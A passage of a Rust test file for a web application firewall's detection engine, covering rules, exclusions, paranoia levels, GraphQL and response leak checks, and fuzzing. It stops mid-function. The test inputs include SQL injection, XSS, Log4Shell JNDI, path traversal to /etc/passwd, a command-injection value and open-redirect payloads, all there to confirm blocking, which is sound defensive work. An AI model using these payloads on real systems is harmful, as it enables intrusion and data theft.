//! The detection engine on the project's own labeled cases (one per attack
//! family, per evasion trick, and benign look-alikes, in
//! `tests/data/detect_cases.jsonl`), and its configuration: operator rules,
//! exclusions, exempt paths, paranoia levels, passive mode, keywords; and
//! the `waf inspect` driver. No root needed.

use std::io::Cursor;

use serde_json::{Value, json};
use waf_user::detect::collect::{TOKENIZER_BUDGET, TOKENIZER_LIMIT_RULE};
use waf_user::detect::{
    Action, DetectConfig, Engine, Exclusion, HeaderMatch, KeywordList, Kind, OneOrMany,
    OperatorRule, Risk, RuleAction, Verdict, inspect_line, inspect_lines,
};
use waf_user::http::{Limits, ParseError, Request};

const CASES: &str = include_str!("data/detect_cases.jsonl");
const UA: &str =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0";

fn engine(cfg: DetectConfig) -> Engine {
    Engine::new(&cfg).expect("valid configuration")
}

/// The engine with the default configuration, built once for all tests
/// (compiling the rule sets is the slow part in debug builds).
fn default_engine() -> &'static Engine {
    static ENGINE: std::sync::OnceLock<Engine> = std::sync::OnceLock::new();
    ENGINE.get_or_init(|| engine(DetectConfig::default()))
}

/// Inspects a GET with one query string.
fn get(e: &Engine, target: &str) -> Verdict {
    let headers = vec![
        ("Host".to_owned(), "app.example".to_owned()),
        ("User-Agent".to_owned(), UA.to_owned()),
    ];
    let req = Request::from_parts("GET", target, headers, Vec::new(), e.limits()).expect("request");
    e.inspect(&req, None)
}

/// Inspects a POST with a body.
fn post(e: &Engine, target: &str, content_type: &str, body: &str) -> Verdict {
    let headers = vec![
        ("Host".to_owned(), "app.example".to_owned()),
        ("User-Agent".to_owned(), UA.to_owned()),
        ("Content-Type".to_owned(), content_type.to_owned()),
    ];
    let req = Request::from_parts(
        "POST",
        target,
        headers,
        body.as_bytes().to_vec(),
        e.limits(),
    )
    .expect("request");
    e.inspect(&req, None)
}

fn kinds(v: &Verdict) -> Vec<Kind> {
    v.attacks.iter().map(|f| f.kind).collect()
}

/// Blocked, with a finding of `rule` among the reasons.
fn assert_blocks_with(v: &Verdict, rule: &str, what: &str) {
    assert!(
        v.attacks.iter().any(|a| a.rule == rule),
        "{what}: {:?}",
        v.attacks
    );
    assert_eq!(v.action, Action::Block, "{what}");
}

#[test]
fn labeled_cases_are_classified() {
    let e = default_engine();
    let mut failures = Vec::new();
    let (mut attacks, mut benign) = (0, 0);
    for line in CASES.lines().filter(|l| !l.trim().is_empty()) {
        let case: Value = serde_json::from_str(line).expect("case is JSON");
        let name = case["name"].as_str().unwrap_or("?");
        let (out, outcome) = inspect_line(line.as_bytes(), e);
        let out: Value = serde_json::from_str(&out).expect("verdict is JSON");
        assert!(outcome.is_ok(), "{name}: {out}");
        let blocked = out["action"] == "block";
        match case["label"].as_str() {
            Some("attack") => {
                attacks += 1;
                let want = case["kind"].as_str();
                let has_kind = want.is_none_or(|k| {
                    out["attacks"]
                        .as_array()
                        .is_some_and(|a| a.iter().any(|f| f["kind"] == k))
                });
                if !blocked || !has_kind {
                    failures.push(format!("attack {name:?} (want {want:?}) -> {out}"));
                }
            }
            Some("benign") => {
                benign += 1;
                if blocked {
                    failures.push(format!("benign {name:?} -> {out}"));
                }
            }
            other => panic!("{name}: bad label {other:?}"),
        }
    }
    assert!(
        attacks >= 90 && benign >= 25,
        "the case file shrank: {attacks} attacks, {benign} benign"
    );
    assert!(
        failures.is_empty(),
        "{} misclassified:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn findings_say_kind_location_rule_and_snippet() {
    let e = default_engine();
    let v = get(e, "/item?id=1%27%20OR%20%271%27%3D%271");
    assert_eq!((v.action, v.risk), (Action::Block, Risk::High));
    assert!(v.score >= 5);
    let f = v
        .attacks
        .iter()
        .find(|f| f.kind == Kind::Sqli)
        .expect("an sqli finding");
    assert_eq!(f.location, "query:id");
    assert!(f.rule.starts_with("sqli-"), "{}", f.rule);
    assert!(f.matched.contains('\''), "{}", f.matched);
    let text = serde_json::to_value(&v).expect("serializes");
    assert_eq!(text["action"], "block");
    assert_eq!(text["risk"], "high");
    assert_eq!(text["attacks"][0]["severity"], "critical");
    let v = post(
        e,
        "/api",
        "application/json",
        r#"{"user":{"name":"<script>alert(1)</script>"}}"#,
    );
    assert!(
        v.attacks
            .iter()
            .any(|f| f.kind == Kind::Xss && f.location == "json:$.user.name"),
        "{v:?}"
    );
    let headers = vec![
        ("Host".to_owned(), "h".to_owned()),
        ("User-Agent".to_owned(), "${jndi:ldap://x/a}".to_owned()),
    ];
    let req = Request::from_parts("GET", "/", headers, Vec::new(), e.limits()).expect("request");
    let v = e.inspect(&req, None);
    assert!(
        v.attacks
            .iter()
            .any(|f| f.kind == Kind::Log4shell && f.location == "header:user-agent"),
        "{v:?}"
    );
}

#[test]
fn a_single_weak_finding_is_medium_risk_and_passes() {
    let e = default_engine();
    let v = get(e, "/p?discount=100%");
    assert_eq!(v.action, Action::Pass);
    assert_eq!(v.risk, Risk::Medium, "{v:?}");
    assert!(
        v.attacks
            .iter()
            .any(|f| f.rule == "protocol-invalid-url-encoding")
    );
    let v = get(e, "/p?q=shoes");
    assert_eq!((v.action, v.score, v.risk), (Action::Pass, 0, Risk::Low));
}

#[test]
fn operator_rules_allow_deny_and_weigh() {
    let cfg = DetectConfig {
        rules: vec![
            OperatorRule {
                id: Some("trusted-office".into()),
                action: RuleAction::Allow,
                remote: Some(OneOrMany::One("192.0.2.0/24".into())),
                ..Default::default()
            },
            OperatorRule {
                id: Some("no-admin-posts".into()),
                action: RuleAction::Deny,
                path: Some("/admin/*".into()),
                method: Some(OneOrMany::Many(vec!["POST".into(), "PUT".into()])),
                ..Default::default()
            },
            OperatorRule {
                id: Some("python-clients".into()),
                action: RuleAction::Weigh,
                user_agent: Some("^python-requests/".into()),
                weight: 3,
                ..Default::default()
            },
            OperatorRule {
                id: Some("no-api-key".into()),
                action: RuleAction::Weigh,
                header: Some(HeaderMatch {
                    name: "X-Api-Key".into(),
                    value: Some("^$".into()),
                }),
                weight: 2,
                ..Default::default()
            },
        ],
        ..Default::default()
    };
    let e = engine(cfg);
    let attack = "/search?q=%3Cscript%3Ealert(1)%3C/script%3E";
    let req = Request::from_parts(
        "GET",
        attack,
        vec![("Host".into(), "h".into())],
        Vec::new(),
        e.limits(),
    )
    .expect("request");
    assert_eq!(
        e.inspect(&req, Some("192.0.2.7".parse().expect("ip")))
            .action,
        Action::Pass
    );
    assert_eq!(
        e.inspect(&req, Some("198.51.100.7".parse().expect("ip")))
            .action,
        Action::Block
    );

    let v = post(&e, "/admin/users", "application/json", "{}");
    assert_eq!(v.action, Action::Block);
    assert_eq!(v.attacks[0].rule, "no-admin-posts");
    assert_eq!(
        post(&e, "/users", "application/json", "{}").action,
        Action::Pass
    );

    let with = |ua: &str, key: &str| {
        let headers = vec![
            ("Host".into(), "h".into()),
            ("User-Agent".into(), ua.into()),
            ("X-Api-Key".into(), key.into()),
        ];
        e.inspect(
            &Request::from_parts("GET", "/", headers, Vec::new(), e.limits()).expect("request"),
            None,
        )
    };
    let v = with("python-requests/2.31", "k");
    assert_eq!((v.action, v.score), (Action::Pass, 3));
    let v = with("python-requests/2.31", "");
    assert_eq!((v.action, v.score), (Action::Block, 5), "{v:?}");
    assert_eq!(with(UA, "k").score, 0);
}

#[test]
fn exclusions_by_path_location_rule_and_kind() {
    let cfg = DetectConfig {
        exclusions: vec![
            Exclusion {
                path: Some("/cms/*".into()),
                location: Some("json:$.body".into()),
                kind: Some(Kind::Xss),
                ..Default::default()
            },
            Exclusion {
                location: Some("query:sql".into()),
                rule: Some("sqli-*".into()),
                ..Default::default()
            },
        ],
        ..Default::default()
    };
    let e = engine(cfg);
    let html = r#"{"body":"<script src=https://cdn.example/x.js></script>","title":"t"}"#;
    assert_eq!(
        post(&e, "/cms/pages/1", "application/json", html).action,
        Action::Pass
    );
    assert_eq!(
        post(&e, "/blog/pages/1", "application/json", html).action,
        Action::Block
    );
    let other_field = r#"{"title":"<script src=https://cdn.example/x.js></script>"}"#;
    assert_eq!(
        post(&e, "/cms/pages/1", "application/json", other_field).action,
        Action::Block
    );
    // The query console may send SQL, but nothing else.
    assert_eq!(
        get(&e, "/console?sql=1%20UNION%20SELECT%20a,b%20FROM%20t").action,
        Action::Pass
    );
    assert_eq!(
        get(&e, "/console?q=1%20UNION%20SELECT%20a,b%20FROM%20t").action,
        Action::Block
    );
    assert_eq!(
        get(&e, "/console?sql=%3Cscript%3Ealert(1)%3C/script%3E").action,
        Action::Block
    );
}

#[test]
fn exempt_paths_are_not_inspected() {
    let e = engine(DetectConfig {
        exempt_paths: vec![("/health".into(), true), ("*.css".into(), true)],
        ..Default::default()
    });
    assert_eq!(
        get(&e, "/health?x=%3Cscript%3Ealert(1)%3C/script%3E").action,
        Action::Pass
    );
    assert_eq!(
        get(&e, "/static/site.css?x=../../etc/passwd").action,
        Action::Pass
    );
    assert_eq!(get(&e, "/healthz?x=../../etc/passwd").action, Action::Block);
}

#[test]
fn paranoia_levels_add_rules() {
    let request = |e: &Engine| {
        let req = Request::parse(b"GET /?q=rlike HTTP/1.1\r\nHost: h\r\n\r\n", e.limits())
            .expect("request");
        e.inspect(&req, None)
    };
    let pl1 = request(default_engine());
    let pl2 = request(&engine(DetectConfig {
        paranoia: 2,
        ..Default::default()
    }));
    assert!(
        !pl1.attacks
            .iter()
            .any(|f| f.rule == "sqli-keyword" || f.rule == "protocol-missing-user-agent"),
        "{pl1:?}"
    );
    assert!(
        pl2.attacks.iter().any(|f| f.rule == "sqli-keyword"),
        "{pl2:?}"
    );
    assert!(
        pl2.attacks
            .iter()
            .any(|f| f.rule == "protocol-missing-user-agent"),
        "{pl2:?}"
    );
    assert!(pl2.score > pl1.score);
    // Private addresses in URLs inside text: error at PL1, critical from
    // PL2 (a URL alone to one is `ssrf-private-url`, critical at PL1).
    let url = "/fetch?url=see+http%3A%2F%2F10.1.2.3%2Fadmin";
    assert_eq!(get(default_engine(), url).action, Action::Pass);
    assert_eq!(
        get(
            &engine(DetectConfig {
                paranoia: 2,
                ..Default::default()
            }),
            url
        )
        .action,
        Action::Block
    );
}

/// Markup with no script (a link to another site, the page's structure)
/// passes at PL1, where rich-text fields send it, and blocks from PL2;
/// plain text with angle brackets passes at both.
#[test]
fn html_injection_blocks_from_paranoia_2() {
    let pl2 = engine(DetectConfig {
        paranoia: 2,
        ..Default::default()
    });
    for url in [
        "/s?q=%3CA%20HREF%3D%22http%3A%2F%2Fphish.example%2F%22%3Elogin%3C%2FA%3E",
        "/s?q=%3Ch1%3EYour%20account%20is%20locked%3C%2Fh1%3E",
        "/s?q=%3C%2Fbody%3E%3C%2Fhtml%3E",
    ] {
        assert_eq!(get(default_engine(), url).action, Action::Pass, "{url}");
        assert_eq!(get(&pl2, url).action, Action::Block, "{url}");
    }
    let prose = "/s?q=a%20%3C%20b%20and%20h1%20%3E%20h2%2C%20see%20%3Ca%3E%20tags";
    assert_eq!(get(&pl2, prose).action, Action::Pass);
}

/// Places a server never serves (a Java application's private directories)
/// or that hand out secrets (Spring Boot's environment and heap dump,
/// Jolokia, ASP.NET's trace log) block at PL1, in any case and behind any
/// prefix; operators' own pages (status, phpinfo, profilers) from PL2; the
/// actuators load balancers read, and names that only start alike, pass.
#[test]
fn private_endpoints_block_and_operator_pages_from_paranoia_2() {
    let pl2 = engine(DetectConfig {
        paranoia: 2,
        ..Default::default()
    });
    for url in [
        "/WEB-INF/web.xml",
        "/app/META-INF/MANIFEST.MF",
        "/shop/./WEB-INF/classes/app.properties",
        "/actuator/heapdump",
        "/manage/actuator/env",
        "/ACTUATOR/ENV",
        "/actuator/gateway/routes",
        "/jolokia/exec/x",
        "/elmah.axd",
        "/Trace.axd",
        "/_ignition/execute-solution",
        "/jmx-console/HtmlAdaptor?action=inspectMBean",
        "/invoker/JMXInvokerServlet",
        "/invoker/EJBInvokerServlet",
        "/invoker/readonly",
        "/jbossmq-httpil/HTTPServerILServlet",
    ] {
        let v = get(default_engine(), url);
        assert_eq!(v.action, Action::Block, "{url}: {:?}", v.attacks);
    }
    for url in [
        "/server-status",
        "/phpinfo.php",
        "/_profiler/phpinfo",
        "/adminer.php",
        "/manager/html",
        "/debug/pprof/heap",
        "/h2-console/login.do",
    ] {
        assert_eq!(get(default_engine(), url).action, Action::Pass, "{url}");
        assert_eq!(get(&pl2, url).action, Action::Block, "{url}");
    }
    for url in [
        "/actuator/health",
        "/actuator/info",
        "/actuator/prometheus",
        "/docs/web-information.html",
        "/blog/meta-inference",
        "/api/environment",
        "/tracer.axd.html",
        "/manager/htmlhelp",
        "/blog/debug/pprofiling-go",
        "/ignition/execute-solution-guide",
        "/docs/invoker/ejbinvokerservlets-explained",
        "/blog/invoker/readonlyness",
    ] {
        assert_eq!(get(&pl2, url).action, Action::Pass, "{url}");
    }
}

/// A redirect target that a check reads as this site's path and a browser
/// as another host blocks in a field, a JSON string and the path itself;
/// a host name as user name (`https://good@evil`) blocks from PL2; plain
/// links, protocol-relative URLs, escaped JSON and patterns pass.
#[test]
fn open_redirects_block_where_a_browser_reads_another_host() {
    let e = default_engine();
    for url in [
        "/login?next=/%5Cevil.example/account",
        "/login?next=%5C/evil.example",
        "/login?next=/%09/evil.example",
        "/login?next=////evil.example/",
        "/login?next=https:/%5Cevil.example",
        "/login?next=/%5C/3405803785/",
        "/%5Cevil.example/",
        "///evil.example/",
    ] {
        let v = get(e, url);
        assert_eq!(v.action, Action::Block, "{url}: {:?}", kinds(&v));
        assert!(
            kinds(&v).contains(&Kind::OpenRedirect),
            "{url}: {:?}",
            kinds(&v)
        );
    }
    let v = post(
        e,
        "/login",
        "application/json",
        r#"{"next":"/\\evil.example"}"#,
    );
    assert_eq!(v.action, Action::Block, "{:?}", kinds(&v));
    let pl2 = engine(DetectConfig {
        paranoia: 2,
        ..Default::default()
    });
    let userinfo = "/login?next=https://app.example@evil.example/";
    assert_eq!(get(e, userinfo).action, Action::Pass);
    assert_eq!(get(&pl2, userinfo).action, Action::Block);
    for url in [
        "/login?next=/account/settings",
        "/login?next=//cdn.example.com/app.js",
        "/login?next=https://app.example/cart",
        "/login?next=https://alice@app.example/",
        "/f?pattern=/%5Cw%2B%5C.%5Cw%2B/",
        "/f?data=%5C/%5C/cdn.example.com%5C/app.js",
        "//static/app.js",
    ] {
        let v = get(&pl2, url);
        assert!(
            !kinds(&v).contains(&Kind::OpenRedirect),
            "{url}: {:?}",
            kinds(&v)
        );
        assert_eq!(get(e, url).action, Action::Pass, "{url}");
    }
}

/// Each string argument of a GraphQL document is read as a parameter
/// (`admin' --` inside one passed before), in a JSON body and in the
/// query string; prose in arguments passes, the syntax around it is not
/// taken for SQL; introspection is 4 points at PL1 and blocks from PL2,
/// `__typename` is no introspection.
#[test]
fn graphql_string_arguments_are_parameters() {
    let e = default_engine();
    let gql = |e: &Engine, q: &str| {
        let body = json!({ "query": q }).to_string();
        let headers = vec![
            ("Host".to_owned(), "app.example".to_owned()),
            ("User-Agent".to_owned(), UA.to_owned()),
            ("Accept".to_owned(), "application/json".to_owned()),
            ("Content-Type".to_owned(), "application/json".to_owned()),
            ("Content-Length".to_owned(), body.len().to_string()),
        ];
        let req = Request::from_parts("POST", "/graphql", headers, body.into(), e.limits())
            .expect("request");
        e.inspect(&req, None)
    };
    for q in [
        r#"{ user(name: "admin' --") { id } }"#,
        r#"mutation { ping(host: "127.0.0.1; cat /etc/passwd") { out } }"#,
        r#"{ users(filter: "{\"$ne\": null}") { id } }"#,
        "{ note(text: \"\"\"<svg onload=alert(1)>\"\"\") { id } }",
    ] {
        let v = gql(e, q);
        assert_eq!(v.action, Action::Block, "{q}: {:?}", kinds(&v));
        assert!(
            v.attacks.iter().any(|f| f.location.ends_with("(graphql)")),
            "{q}: {:?}",
            v.attacks
        );
    }
    // A payload after more decoys than strings are read alone is not
    // passed unseen: such a document is an anomaly, as too many
    // parameters are.
    let decoys = |n: usize| {
        let mut q = String::from("{ a(");
        for i in 0..n {
            q.push_str(&format!("x{i}: \"d\" "));
        }
        q
    };
    let v = gql(e, &(decoys(1100) + "y: \"admin' --\") { id } }"));
    assert_eq!(v.action, Action::Block, "{:?}", kinds(&v));
    let v = gql(e, &(decoys(1000) + ") { id } }"));
    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
    let v = get(
        e,
        "/graphql?query=%7Buser(name%3A%22admin'%20--%22)%7Bid%7D%7D",
    );
    assert_eq!(v.action, Action::Block, "{:?}", kinds(&v));
    for q in [
        r#"{ search(q: "O'Brien and O'Reilly's books") { id } }"#,
        r#"{ search(q: "sleep (8 hours) and benchmark results") { id title } }"#,
        r#"query Q($id: ID!) { user(id: $id) { id name __typename } }"#,
    ] {
        let v = gql(e, q);
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    }
    let pl2 = engine(DetectConfig {
        paranoia: 2,
        ..Default::default()
    });
    let intro = "query IntrospectionQuery { __schema { types { name } } }";
    let v = gql(e, intro);
    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
    assert!(kinds(&v).contains(&Kind::Graphql), "{:?}", kinds(&v));
    assert_eq!(gql(&pl2, intro).action, Action::Block);
}

#[test]
fn passive_mode_logs_but_never_blocks() {
    let e = engine(DetectConfig {
        passive: true,
        ..Default::default()
    });
    let v = get(&e, "/?id=1%20UNION%20SELECT%20password%20FROM%20users");
    assert_eq!(v.action, Action::Pass);
    assert!(v.would_block);
    assert_eq!(v.risk, Risk::High);
    assert!(kinds(&v).contains(&Kind::Sqli));
    assert_eq!(
        serde_json::to_value(&v).expect("serializes")["would_block"],
        true
    );
}

#[test]
fn keywords_and_extra_bad_user_agents() {
    let cfg = DetectConfig {
        keywords: vec![KeywordList {
            id: Some("spam".into()),
            words: vec!["casino bonus".into()],
            weight: Some(5),
        }],
        bad_user_agents: vec!["EvilBot".into()],
        ..Default::default()
    };
    let e = engine(cfg);
    let v = post(
        &e,
        "/comments",
        "application/x-www-form-urlencoded",
        "text=Best+CASINO+BONUS+here",
    );
    assert_eq!(v.action, Action::Block);
    assert_eq!(v.attacks[0].rule, "spam");
    let headers = vec![
        ("Host".into(), "h".into()),
        ("User-Agent".into(), "evilbot/2.0".into()),
    ];
    let v = e.inspect(
        &Request::from_parts("GET", "/", headers, Vec::new(), e.limits()).expect("request"),
        None,
    );
    assert!(
        v.attacks
            .iter()
            .any(|f| f.kind == Kind::Scanner && f.matched == "evilbot"),
        "{v:?}"
    );
}

#[test]
fn configuration_errors_name_key_value_and_allowed() {
    let cfg: DetectConfig = toml::from_str("paranoia = 5").expect("parses");
    assert_eq!(
        cfg.validate().unwrap_err(),
        "detect.paranoia: 5 is not allowed (1 to 4)"
    );
    assert!(Engine::new(&cfg).is_err());
    let cfg: DetectConfig =
        toml::from_str("[[rules]]\naction = \"weigh\"\npath = \"/x\"").expect("parses");
    assert!(
        cfg.validate()
            .unwrap_err()
            .starts_with("detect.rules[0].weight: 0 is not allowed")
    );
    let cfg: DetectConfig =
        toml::from_str("[[rules]]\naction = \"deny\"\nuser_agent = \"(\"").expect("parses");
    assert!(
        cfg.validate()
            .unwrap_err()
            .starts_with("detect.rules[0].user_agent: \"(\" is not allowed")
    );
    assert!(toml::from_str::<DetectConfig>("unknown_key = 1").is_err());
}

#[test]
fn inspect_lines_keeps_order_and_survives_bad_lines() {
    let e = default_engine();
    let input = [
        json!({"id": 1, "raw": "GET /?q=shoes HTTP/1.1\r\nHost: h\r\n\r\n"}).to_string(),
        "{not json".to_owned(),
        json!({"id": "two", "method": "GET", "uri": "/?id=1' OR '1'='1", "headers": [["Host", "h"]]}).to_string(),
        String::new(),
        json!({"id": 3, "raw": "garbage"}).to_string(),
        json!({"id": 4, "method": "POST", "uri": "/", "headers": "nope"}).to_string(),
    ]
    .join("\n");
    let mut out = Vec::new();
    let stats = inspect_lines(Cursor::new(input), &mut out, e, 2).expect("runs");
    let lines: Vec<Value> = String::from_utf8(out)
        .expect("utf-8")
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    assert_eq!(lines.len(), 5);
    assert_eq!(
        (lines[0]["id"].clone(), lines[0]["action"].clone()),
        (json!(1), json!("pass"))
    );
    assert_eq!(
        (lines[1]["id"].clone(), lines[1]["action"].clone()),
        (Value::Null, json!("pass"))
    );
    assert!(
        lines[1]["error"]
            .as_str()
            .is_some_and(|e| e.contains("invalid JSON"))
    );
    assert_eq!(
        (lines[2]["id"].clone(), lines[2]["action"].clone()),
        (json!("two"), json!("block"))
    );
    assert!(lines[2]["attacks"][0]["kind"].is_string());
    assert_eq!(lines[3]["id"], 3);
    assert!(
        lines[3]["error"]
            .as_str()
            .is_some_and(|e| e.contains("request line"))
    );
    assert_eq!(lines[4]["id"], 4);
    assert!(lines[4]["error"].is_string());
    assert_eq!(
        (stats.lines, stats.blocked, stats.errors, stats.passed),
        (5, 1, 3, 4)
    );
}

/// A line's `response` is read for data leaks as the proxy reads an
/// application's answer: a leak blocks a clean request, a gzipped one too
/// (its coding undone), the findings follow the request's, exclusions by
/// kind apply, and a malformed `response` is an error line.
#[test]
fn inspect_lines_read_a_response_for_leaks() {
    use std::io::Write as _;
    let run = |e: &Engine, line: Value| -> Value {
        let (out, _) = inspect_line(line.to_string().as_bytes(), e);
        serde_json::from_str(&out).expect("JSON line")
    };
    let e = default_engine();
    let req = "GET /item?id=7 HTTP/1.1\r\nHost: h\r\n\r\n";
    let leak = "<b>Warning</b>: pg_query(): ERROR:  invalid input syntax for integer: \"7'\"";
    let clean = run(
        e,
        json!({"id": 1, "raw": req, "response": {"body": "<p>Item 7</p>"}}),
    );
    assert_eq!(clean["action"], "pass");
    let v = run(e, json!({"id": 2, "raw": req, "response": {"body": leak}}));
    assert_eq!(v["action"], "block");
    assert_eq!(v["attacks"][0]["kind"], "data_leak");
    assert_eq!(v["attacks"][0]["location"], "response.body");
    assert_eq!(v["attacks"][0]["rule"], "leak-sql-error");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(leak.as_bytes()).unwrap();
    let latin1: String = gz
        .finish()
        .unwrap()
        .iter()
        .map(|&b| char::from(b))
        .collect();
    let headers = json!([["Content-Encoding", "gzip"]]);
    let v = run(
        e,
        json!({"id": 3, "raw": req, "response": {"body": latin1, "headers": headers}}),
    );
    assert_eq!(v["action"], "block", "{v}");
    let both = run(
        e,
        json!({"id": 4, "raw": "GET /?q=1'+union+select+pass+from+users-- HTTP/1.1\r\nHost: h\r\n\r\n", "response": {"body": leak}}),
    );
    let kinds: Vec<&str> = both["attacks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        (kinds[0], kinds.last().copied()),
        ("sqli", Some("data_leak")),
        "{both}"
    );
    let excluded = engine(DetectConfig {
        exclusions: vec![waf_user::detect::Exclusion {
            kind: Some(Kind::DataLeak),
            ..Default::default()
        }],
        ..Default::default()
    });
    assert_eq!(
        run(
            &excluded,
            json!({"id": 5, "raw": req, "response": {"body": leak}})
        )["action"],
        "pass"
    );
    for bad in [
        json!("text"),
        json!({"body": 1}),
        json!({"body": "x", "headers": [["a"]]}),
    ] {
        let v = run(e, json!({"id": 6, "raw": req, "response": bad}));
        assert!(
            v["error"]
                .as_str()
                .is_some_and(|m| m.starts_with("response")),
            "{v}"
        );
    }
}

#[test]
fn inspect_lines_uses_threads_and_keeps_order() {
    let e = default_engine();
    let input: String = (0..700)
        .map(|i| {
            let q = if i % 7 == 0 {
                "id=1%20UNION%20SELECT%20a%20FROM%20b"
            } else {
                "q=shoes"
            };
            json!({"id": i, "raw": format!("GET /?{q} HTTP/1.1\r\nHost: h\r\n\r\n")}).to_string()
                + "\n"
        })
        .collect();
    let mut out = Vec::new();
    let stats = inspect_lines(Cursor::new(input), &mut out, e, 3).expect("runs");
    let text = String::from_utf8(out).expect("utf-8");
    for (i, line) in text.lines().enumerate() {
        let v: Value = serde_json::from_str(line).expect("JSON");
        assert_eq!(v["id"], i);
        assert_eq!(v["action"] == "block", i % 7 == 0, "line {i}");
    }
    assert_eq!((stats.lines, stats.blocked), (700, 100));
}

#[test]
fn parser_limits_are_typed_errors() {
    let limits = Limits {
        max_headers: 3,
        ..Limits::default()
    };
    let e = engine(DetectConfig {
        limits: limits.clone(),
        ..Default::default()
    });
    let raw = b"GET / HTTP/1.1\r\nHost: h\r\nA: 1\r\nB: 2\r\nC: 3\r\n\r\n";
    assert_eq!(
        Request::parse(raw, &limits).unwrap_err(),
        ParseError::TooManyHeaders { limit: 3 }
    );
    let line = json!({"id": 9, "raw": String::from_utf8_lossy(raw)}).to_string();
    let (out, outcome) = inspect_line(line.as_bytes(), &e);
    assert!(outcome.is_err());
    assert!(out.contains("too many header fields"), "{out}");
    let deep = format!("{}\"x' OR 1=1--\"{}", "[".repeat(40), "]".repeat(40));
    let v = post(&e, "/", "application/json", &deep);
    assert!(
        v.attacks.iter().any(|f| f.rule == "protocol-json-too-deep"),
        "{v:?}"
    );
    assert!(
        kinds(&v).contains(&Kind::Sqli),
        "deep values are still inspected: {v:?}"
    );
}

/// xorshift64*: deterministic pseudo-random bytes.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

#[test]
fn never_panics_on_random_or_mangled_input() {
    let e = engine(DetectConfig {
        paranoia: 4,
        ..Default::default()
    });
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let seeds: Vec<Vec<u8>> = CASES
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .map(|c| match c["raw"].as_str() {
            Some(r) => r.as_bytes().to_vec(),
            None => format!(
                "{} {} HTTP/1.1\r\nHost: h\r\n\r\n{}",
                c["method"].as_str().unwrap_or("GET"),
                c["uri"].as_str().unwrap_or("/"),
                c["body"].as_str().unwrap_or("")
            )
            .into_bytes(),
        })
        .collect();
    let alphabet =
        b"%&<>'\"\\/;|$`{}()[]*?#=+-.:\r\n\t\x00\xc0\xaf\xef\xbc\xff ux0123456789abcdefABCDEF{}";
    for round in 0..3000 {
        let mut input = seeds[round % seeds.len()].clone();
        for _ in 0..(rng.next() % 16) {
            let pos = (rng.next() as usize) % (input.len() + 1);
            match rng.next() % 3 {
                0 => input.insert(pos, alphabet[(rng.next() as usize) % alphabet.len()]),
                1 if pos < input.len() => {
                    input.remove(pos);
                }
                _ => input.truncate(pos),
            }
        }
        if round % 5 == 0 {
            input = (0..(rng.next() % 300)).map(|_| rng.next() as u8).collect();
        }
        if let Ok(req) = Request::parse(&input, e.limits()) {
            let _ = e.inspect(&req, None);
        }
        let text = String::from_utf8_lossy(&input);
        if let Ok(req) = Request::from_parts(
            "POST",
            &format!("/{text}"),
            vec![("Cookie".into(), text.to_string())],
            input.clone(),
            e.limits(),
        ) {
            let _ = e.inspect(&req, None);
        }
    }
}

/// Payloads a NUL or binary noise around them must not hide: in a JSON
/// string and in a multipart field, a value with a NUL (or one odd byte in
/// twenty) reads as binary, and its text runs still meet every rule.
const HIDDEN: &[(&str, Kind)] = &[
    ("../../../../../../../../../../etc/passwd", Kind::Lfi),
    (
        "' and (select 1 from users where name='admin')--",
        Kind::Sqli,
    ),
    ("<script>alert(document.cookie)</script>", Kind::Xss),
];

/// `s` as a JSON string literal with every char above U+007E or below
/// U+0020 escaped as `\uXXXX`.
fn json_str(s: &str) -> String {
    let mut out = String::from("\"");
    for ch in s.chars() {
        match ch {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            ' '..='~' => out.push(ch),
            _ => out.push_str(&format!("\\u{:04x}", ch as u32)),
        }
    }
    out.push('"');
    out
}

#[test]
fn a_nul_after_a_payload_does_not_make_it_binary() {
    let e = default_engine();
    for (p, kind) in HIDDEN {
        for tail in ["\0", "\0\0\0\0", "\0.jpg", "\u{1}\u{2}\u{3}"] {
            let v = format!("{p}{tail}");
            let body = format!("{{\"lang\":\"en\",\"value\":{}}}", json_str(&v));
            let verdict = post(e, "/api", "application/json", &body);
            assert_eq!(verdict.action, Action::Block, "json {v:?}: {verdict:?}");
            assert!(kinds(&verdict).contains(kind), "json {v:?}: {verdict:?}");
            let b = "----b0undary";
            let body = format!(
                "--{b}\r\nContent-Disposition: form-data; name=\"value\"\r\n\r\n{v}\r\n--{b}--\r\n"
            );
            let verdict = post(
                e,
                "/api",
                &format!("multipart/form-data; boundary={b}"),
                &body,
            );
            assert_eq!(
                verdict.action,
                Action::Block,
                "multipart {v:?}: {verdict:?}"
            );
        }
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]

    /// A payload between runs of random bytes (a compressed blob with an
    /// attack spliced in) is found.
    #[test]
    fn a_payload_inside_binary_noise_is_found(
        before in proptest::collection::vec(0u8..=255, 8..200),
        after in proptest::collection::vec(0u8..=255, 0..200),
        which in 0..HIDDEN.len(),
    ) {
        let e = default_engine();
        // Each byte as the char of the same number (what `\u00XX` escapes
        // give); a NUL ends the noise so the payload starts a run.
        let noise = |b: &[u8]| b.iter().map(|&x| char::from(x)).collect::<String>();
        let (p, kind) = HIDDEN[which];
        let v = format!("{}\0{p}\0{}", noise(&before), noise(&after));
        let body = format!("{{\"value\":{}}}", json_str(&v));
        let verdict = post(e, "/api", "application/json", &body);
        proptest::prop_assert!(kinds(&verdict).contains(&kind), "{:?}: {:?}", v, verdict);
        proptest::prop_assert_eq!(verdict.action, Action::Block);
    }
}

#[test]
fn compressed_bodies_are_inspected_and_unknown_codings_refused() {
    use std::io::Write as _;
    let e = default_engine();
